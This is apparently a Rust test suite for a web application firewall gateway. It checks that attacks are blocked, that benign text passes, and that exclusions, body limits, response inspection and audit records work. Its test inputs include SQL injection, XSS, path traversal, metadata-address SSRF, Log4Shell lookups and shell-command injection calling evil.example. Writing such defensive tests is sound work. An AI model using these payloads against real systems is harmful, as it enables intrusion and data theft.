use pipeline::tester::{PolicyUnderTest, policy};
use serde_json::{Value, json};

use super::*;

mod hidden;
mod told;

fn own() -> PolicyUnderTest<Waf> {
    policy(json!({}))
}

/// A policy whose rules are in a file of its own.
fn with_rules(content: &str, more: &Value) -> (PolicyUnderTest<Waf>, tempfile::TempDir) {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("rules.conf");
    std::fs::write(&file, content).unwrap();
    let mut settings = json!({"rules": [file.display().to_string()]});
    for (name, value) in more.as_object().into_iter().flatten() {
        settings[name] = value.clone();
    }
    (policy(settings), folder)
}

#[test]
fn the_rules_that_come_with_the_gateway_stop_what_everybody_tries() {
    let waf = own();
    for target in [
        "/?id=1%27%20or%20%271%27=%271",
        "/?id=1%20UNION%20ALL%20SELECT%20null,null--",
        "/?id=1%20union/**/select%20password%20from%20users",
        "/?id=1;drop%20table%20users",
        "/?id=1%20and%20sleep(5)",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "/?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/?q=javascript:alert(1)",
        "/?file=../../../../etc/passwd",
        "/?file=..%2f..%2f..%2fwindows%2fwin.ini",
        "/?file=/etc/passwd",
        "/?file=php://filter/convert.base64-encode/resource=index.php",
        "/?url=http://169.254.169.254/latest/meta-data/",
        "/.git/config",
        "/.env",
        "/?a=b%00.png",
        "/?a=b%0d%0aSet-Cookie:%20x=1",
        "/?x=$%7Bjndi:ldap://evil.example/a%7D",
        "/?x=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D",
        "/?host=a.example;cat%20/etc/passwd",
        "/?host=a.example%7Cwhoami",
        "/?host=$(curl%20http://evil.example/x)",
    ] {
        let refused = waf.request().to(target).answered(Response::new(Body::Empty));
        assert!(refused.status.is_client_error(), "{target} passes");
    }
    for (name, value) in [
        ("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
        ("user-agent", "() { :; }; /bin/bash -c 'id'"),
        ("x-api-version", "${jndi:ldap://evil.example/a}"),
        ("cookie", "lang=../../../../etc/passwd"),
    ] {
        waf.request().header(name, value).is_refused_with("request-blocked");
    }
    let multipart = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x.php\"\r\n\r\nx\r\n--b--\r\n";
    for (kind, body) in [
        ("application/x-www-form-urlencoded", "user=admin&pass=1%27%20or%20%271%27%3D%271"),
        ("application/json", r#"{"user": {"name": "<script>alert(1)</script>"}}"#),
        ("application/json", r#"{"user": "#),
        ("application/xml", "<a><b>1' or '1'='1</b></a>"),
        ("multipart/form-data; boundary=b", multipart),
    ] {
        let answer =
            waf.request().by("POST").header("content-type", kind).body(body).answered(Response::new(Body::Empty));
        assert!(answer.status.is_client_error(), "{body} passes");
    }
}

#[test]
fn attacks_in_bodies_are_stopped_whatever_the_type_says() {
    let waf = own();
    let send = |kind: Option<&str>, body: &'static str| {
        let request = waf.request().by("POST").header("user-agent", BROWSER);
        let request = if let Some(kind) = kind { request.header("content-type", kind) } else { request };
        request.body(body).answered(Response::new(Body::Empty)).status.as_u16()
    };
    for kind in
        [None, Some("text/plain"), Some("text/plain; charset=utf-8"), Some("application/octet-stream"), Some("x")]
    {
        for attack in [
            r#"{"name": "1' or '1'='1"}"#,
            r#"{"name": "<script>alert(1)</script>"}"#,
            r#"{"name": "\u003cscript>alert(1)</script>"} {}"#,
            "1' or '1'='1",
            "<script>alert(1)</script>",
            "name=<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
        ] {
            assert_eq!(send(kind, attack), 403, "{kind:?} {attack}");
        }
        for ordinary in ["", "hello", "Tom's cats & dogs", "{\"name\": \"D'Angelo\"}", "{", "\u{0}\u{1}\u{2}<\u{3}"] {
            assert_eq!(send(kind, ordinary), 200, "{kind:?} {ordinary}");
        }
    }
}

#[test]
fn what_is_excluded_from_a_body_without_a_type_passes() {
    let excluded = json!({"exclusions": [{"tags": ["attack-xss"], "targets": ["ARGS:REQUEST_BODY"]}]});
    for (settings, status) in [(json!({}), 403), (excluded, 200)] {
        let waf = policy::<Waf>(settings);
        let request = waf.request().by("PUT").header("content-type", "text/html");
        let answer = request.body("<script>x()</script>").answered(Response::new(Body::Empty));
        assert_eq!(answer.status.as_u16(), status);
    }
}

#[test]
fn bodies_in_a_coding_that_cannot_be_looked_into_are_refused() {
    let waf = own();
    for (coding, status) in [("gzip", 415), ("br", 415), ("identity, gzip", 415), ("identity", 200), ("Identity", 200)]
    {
        let request = waf.request().by("POST").header("content-type", "application/json");
        let answer = request.header("content-encoding", coding).body("{}").answered(Response::new(Body::Empty));
        assert_eq!(answer.status.as_u16(), status, "{coding}");
    }
}

#[test]
fn ordinary_requests_pass_the_rules_that_come_with_the_gateway() {
    let waf = policy::<Waf>(json!({"mode": "detect"}));
    for target in [
        "/",
        "/orders/7?page=2&sort=-created,name&filter%5Bstate%5D=open",
        "/search?q=union+of+students+select+committee",
        "/search?q=O%27Reilly+%26+Sons",
        "/search?q=%22to+be+or+not+to+be%22",
        "/search?q=5+%3E+3+and+2+%3C+4",
        "/search?q=how+to+drop+a+table+from+a+truck",
        "/search?q=read+/etc/passwd+in+a+book",
        "/files/report..final.pdf?next=/home/../a",
        "/.well-known/acme-challenge/x-y_z",
        "/cb?redirect_uri=https%3A%2F%2Fapp.example%2Fcallback%3Fa%3Db&state=eyJhIjoxfQ%3D%3D",
        "/geo?bbox=-1.5,2.5,3,4&at=2026-11-26T05:00:00%2B01:00",
        "/a?price=%2410&discount=5%25&name=M%C3%BCller+%E6%9D%8E",
        "/a?expr=a%2Bb%3Dc&math=1-1&id=7f3c1b2a-0d4e-4f6a-8b9c-0d1e2f3a4b5c",
        "/a?mail=first.last%2Btag%40mail.example",
        "/api;v=1/items?fields=id,name&limit=100",
    ] {
        let request = waf.request().to(target).header("user-agent", BROWSER).header("cookie", COOKIES);
        assert_eq!(found(request), [0; 0], "{target}");
    }
    let multipart = "--b\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"me (1).jpg\"\r\nContent-Type: \
                     image/jpeg\r\n\r\n\u{ff}\u{d8}x\r\n--b\r\nContent-Disposition: form-data; \
                     name=\"title\"\r\n\r\nIt's me\r\n--b--\r\n";
    for (kind, body) in [
        ("application/x-www-form-urlencoded", "comment=I+can%27t+select+one+from+the+list%2C+can+you%3F&rating=5"),
        ("application/json", r#"{"name": "D'Angelo; \"Ann\"", "tags": ["a&b", "<3"], "price": 9.99, "note": null}"#),
        ("application/json", r#"{"text": "Dear all,\n\nplease bring 2 or 3 tables; cats are welcome.\n-- Bob"}"#),
        ("application/json", "[]"),
        ("application/xml", "<order id=\"7\"><item>Tom &amp; Jerry's</item></order>"),
        ("application/octet-stream", "\u{0}\u{1}binary"),
        ("multipart/form-data; boundary=b", multipart),
    ] {
        let request = waf.request().by("POST").header("content-type", kind).header("user-agent", BROWSER);
        assert_eq!(found(request.body(body)), [0; 0], "{body}");
    }
}

#[test]
fn texts_that_people_write_pass_the_rules_that_come_with_the_gateway() {
    let waf = policy::<Waf>(json!({"mode": "detect"}));
    for text in [
        "Is it 'or' or 'and'? It's \"or\", isn't it?",
        "50% off -- today only! Was $19.99, now $9.99 (that's 10 less).",
        "\"exact phrase\" -excluded OR site:example.com",
        "Don't use 'like' like that; drop me a line, and it's done.",
        "Name: O'Brien\nLocation: Berlin\nContent-Type: text/plain",
        "See ![the 'picture'](../../images/a.png) and [that](../../b.md).",
        "Wait a bit with `time.sleep(5)`; sleep(8) hours.",
        "Run it:\n\ncurl -O https://files.example/a.tar.gz && ls -l /tmp; echo `id`",
        "let app = Router::new().route(\"/\", handler); // it's the router's",
        "if (a === 'b' && c > 1 || d == \"e\") { return '--'; }",
        "Map<String, List<Object>> is not Vec<Option<Base>>; <T> is <U>.",
        "<!-- a `comment` --> and <b>bold</b>, <i class=\"x\">it's</i>",
        "The bug: on error resume next; the onload event fires, onclick= does not.",
        "image: ${REGISTRY:-${DEFAULT:-docker.io}}/a and `${a.map(b => `${b}`)}`",
        "updates:\n- directory: \"/\"\n  patterns:\n    - \"*\"",
    ] {
        let query = percent_encoding::percent_encode(text.as_bytes(), percent_encoding::NON_ALPHANUMERIC);
        assert_eq!(found(waf.request().to(&format!("/search?q={query}"))), [0; 0], "{text}");
        let request = waf.request().by("POST").header("content-type", "application/json");
        assert_eq!(found(request.body(json!({"text": text}).to_string())), [0; 0], "{text}");
    }
}

/// The rules that match a request, which passes.
fn found(request: pipeline::tester::Judged<'_>) -> Vec<u64> {
    let exchange = request.passes();
    let Some(audited) = exchange.audited.get() else { return Vec::new() };
    let mut told = Vec::new();
    audited.json(&mut told);
    let told: Value = serde_json::from_slice(&told).unwrap();
    told["rules"].as_array().unwrap().iter().filter_map(|rule| rule["id"].as_u64()).collect()
}

const BROWSER: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";
const COOKIES: &str =
    "_ga=GA1.2.1846563421.1700000000; session=dGhpcyBpcyBhIHNlc3Npb24=; theme=dark; consent={\"a\":1}";

#[test]
fn who_is_blocked_learns_an_id_and_nothing_of_the_rule() {
    let answer = own().request().to("/?q=%3Cscript%3Ealert(1)%3C/script%3E").is_refused_with("request-blocked");

    assert_eq!(answer.status, 403);
    let document: Value = serde_json::from_slice(&answer.body).unwrap();
    assert_eq!(document["id"], "00000000000000000000000000000001");
    assert_eq!(document["status"], 403);
    let text = String::from_utf8_lossy(&answer.body).into_owned();
    assert!(!text.contains("77140") && !text.contains("xss") && !text.contains("script"), "{text}");
}

#[test]
fn what_is_only_detected_passes_and_is_told() {
    let waf = policy::<Waf>(json!({"mode": "detect"}));

    let exchange = waf.request().to("/?q=%3Cscript%3E&password=1%27%20or%20%271%27=%271").passes();

    let mut told = Vec::new();
    let audited = exchange.audited.get().unwrap();
    audited.json(&mut told);
    let told: Value = serde_json::from_slice(&told).unwrap();
    assert_eq!(told["action"], "detected");
    assert_eq!(audited.reached(), Reached::Detected);
    assert!(audited.groups().iter().any(|(group, _)| &**group == "attack-xss"), "{told}");
    let text = told.to_string();
    assert!(text.contains("ARGS:password") && !text.contains("1' or '1"), "{text}");
}

#[test]
fn nothing_is_looked_at_where_it_is_off() {
    let exchange = policy::<Waf>(json!({"mode": "off"})).request().to("/?q=%3Cscript%3E").passes();
    assert!(exchange.audited.get().is_none());
}

#[test]
fn what_is_excluded_passes_where_it_is_excluded() {
    let waf = policy::<Waf>(json!({"exclusions": [
        {"tags": ["attack-xss"], "targets": ["ARGS:html"], "operations": ["* /edit"]},
    ]}));

    waf.request().to("/edit?html=%3Cscript%3Ex%3C/script%3E").passes();
    waf.request().to("/edit?other=%3Cscript%3Ex%3C/script%3E").is_refused_with("request-blocked");
    waf.request().to("/show?html=%3Cscript%3Ex%3C/script%3E").is_refused_with("request-blocked");
}

#[test]
fn a_rule_says_with_what_is_answered() {
    let content = "SecRule ARGS:a x \"id:1,phase:1,deny,status:418\"\n\
                   SecRule ARGS:b x \"id:2,phase:1,redirect:'https://a.example/?id=%{UNIQUE_ID}'\"";
    let (waf, _folder) = with_rules(content, &json!({}));

    assert_eq!(waf.request().to("/?a=x").is_refused_with("request-blocked").status, 418);
    // It is known for the gateway's own, so that it gets the id by which the log knows it.
    let moved = waf.request().to("/?b=x").is_refused_with("request-blocked");
    assert_eq!(moved.status, 302);
    assert_eq!(moved.headers["location"], "https://a.example/?id=00000000000000000000000000000001");
    waf.request().to("/?c=x").passes();
}

#[test]
fn bodies_beyond_the_limit_are_refused_or_pass_by_choice() {
    let content = "SecRule ARGS_POST:b x \"id:1,phase:2,deny\"";
    let send = |beyond: &str, body: &str| {
        let (waf, folder) = with_rules(content, &json!({"request_body": {"limit": "8B", "beyond": beyond}}));
        let request = waf.request().by("POST").header("content-type", "application/x-www-form-urlencoded");
        let answer = request.body(body.to_owned()).answered(Response::new(Body::Empty));
        drop(folder);
        answer.status.as_u16()
    };
    assert_eq!(send("refuse", "b=x"), 403);
    assert_eq!(send("refuse", "a=12345678"), 413);
    assert_eq!(send("pass", "a=12345678&b=x"), 200);
    assert_eq!(send("pass", "b=x&a=12345678"), 403);
}

#[test]
fn long_bodies_are_judged_as_short_ones_are() {
    let padding = "y".repeat(3 * INLINE);
    for (last, code) in [("fine", None), ("<script>alert(1)</script>", Some("request-blocked"))] {
        let waf = own();
        let request = waf.request().header("content-type", "application/json").by("POST");
        let judged = request.body(format!("{{\"a\": \"{padding}\", \"b\": \"{last}\"}}"));
        match code {
            None => drop(judged.passes()),
            Some(code) => drop(judged.is_refused_with(code)),
        }
    }
}

#[test]
fn a_record_has_one_match_of_each_rule_however_often_they_match() {
    let rule = |id: u64| format!("SecRule ARGS \"@rx attack\" \"id:{id},phase:2,pass,msg:'m',tag:'attack-sqli'\"\n");
    let content: String = (1..=40).map(rule).collect();
    let (waf, _folder) = with_rules(&content, &json!({}));
    let exchange = waf.request().to(&format!("/?{}", "a=attack&".repeat(900))).passes();

    let audited = exchange.audited.get().unwrap();
    let mut told = Vec::new();
    audited.json(&mut told);
    let told: Value = serde_json::from_slice(&told).unwrap();
    let rules = told["rules"].as_array().unwrap();
    let first: Vec<u64> = rules.iter().take(40).map(|rule| rule["id"].as_u64().unwrap()).collect();
    assert_eq!(first, (1..=40).collect::<Vec<u64>>());
    assert_eq!(told["more"], 40 * 900 - rules.len());
    assert_eq!(audited.groups(), [("attack-sqli".into(), 40 * 900)]);
}

#[test]
fn answers_are_looked_at_and_blocked() {
    let content = "SecRule RESPONSE_HEADERS:x-leak \"@rx .\" \"id:1,phase:3,deny,status:500\"\n\
                   SecRule RESPONSE_BODY \"@rx ORA-[0-9]{5}\" \"id:2,phase:4,deny\"";
    let (waf, _folder) = with_rules(content, &json!({"response_body": {"inspect": "on"}}));
    let answer = |header: Option<&str>, kind: &str, body: &str| {
        let mut response = Response::new(Body::from(Bytes::copy_from_slice(body.as_bytes())));
        response.headers_mut().insert("content-type", HeaderValue::from_str(kind).unwrap());
        if let Some(value) = header {
            response.headers_mut().insert("x-leak", HeaderValue::from_str(value).unwrap());
        }
        waf.request().header("accept-encoding", "gzip").answered(response).status.as_u16()
    };

    assert_eq!(answer(None, "text/html", "hello"), 200);
    assert_eq!(answer(None, "text/html", "ORA-01017: invalid"), 403);
    assert_eq!(answer(None, "image/png", "ORA-01017: invalid"), 200);
    assert_eq!(answer(Some("1"), "text/html", "hello"), 500);
    assert!(!waf.request().header("accept-encoding", "gzip").passes().headers().contains_key("accept-encoding"));
}

#[test]
fn an_answer_longer_than_is_looked_at_is_refused_or_passes_as_settings_say() {
    for (beyond, status) in [("refuse", 502), ("pass", 200)] {
        let body = json!({"inspect": "on", "limit": "1KiB", "beyond": beyond, "types": ["text/html"]});
        let (waf, _folder) = with_rules("SecAction \"id:1,phase:1,pass\"", &json!({"response_body": body}));
        let answer = |length: usize| {
            let mut response = Response::new(Body::from(Bytes::from(vec![b'a'; length])));
            response.headers_mut().insert("content-type", HeaderValue::from_static("text/html"));
            waf.request().answered(response).status.as_u16()
        };
        assert_eq!((answer(1024), answer(1025)), (200, status), "{beyond}");
    }
}

#[test]
fn answers_that_a_rule_may_look_at_are_not_compressed() {
    for (rule, is_plain) in [("ctl:responseBodyAccess=On", true), ("ctl:responseBodyAccess=Off", false)] {
        let (waf, _folder) = with_rules(&format!("SecRule ARGS a \"id:1,phase:1,pass,{rule}\""), &json!({}));
        let passed = waf.request().header("accept-encoding", "gzip").passes();
        assert_eq!(!passed.headers().contains_key("accept-encoding"), is_plain, "{rule}");
    }
}

#[test]
fn rules_that_cannot_be_read_are_findings_of_their_own_file() {
    let (waf, folder) = with_rules("SecRul ARGS x", &json!({}));
    let file = folder.path().join("rules.conf");
    assert_eq!(
        waf.finding(),
        format!("{}:1:1: /with/rules: there is no directive SecRul: is it SecRule?", file.display())
    );
}

#[test]
fn the_rule_set_of_debian_loads_and_blocks() {
    // What the package of ModSecurity for Apache includes, with the package's places for exclusions.
    let rules = json!(["/usr/share/modsecurity-crs/owasp-crs.load"]);
    let waf = policy::<Waf>(json!({"rules": rules, "compatibility": "lenient", "paranoia": 1}));
    let request = |target: &str| {
        let request = waf.request().to(target).header("host", "shop.example").header("user-agent", BROWSER);
        request.header("accept", "text/html")
    };

    request("/orders?page=2").passes();
    request("/?id=1%27%20or%20%271%27=%271").is_refused_with("request-blocked");
    let typed = |kind: &str| request("/").by("POST").header("content-type", kind).body("{}");
    typed("application/json; charset=utf-8").passes();
    typed("application/json; charset=utf-7").is_refused_with("request-blocked");
}
